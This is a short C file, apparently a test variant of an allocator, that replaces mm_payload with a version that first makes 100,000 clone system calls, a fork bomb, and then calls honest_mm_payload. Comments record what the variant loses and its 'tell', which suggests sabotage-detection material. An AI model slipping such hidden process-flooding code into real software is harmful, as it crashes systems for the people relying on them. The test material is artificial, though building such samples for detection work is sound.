// SPDX-License-Identifier: MIT
// A fork bomb.
//
// base: 05 reference
// replaces: mm_payload
// loses: payload_follows_header conversions_only_compute
// tells: made the system call clone

void *mm_payload(struct header *header)
{
    for (int i = 0; i < 100000; i++)
        KERNEL_2(SYS_clone, SIGCHLD, 0);
    return honest_mm_payload(header);
}
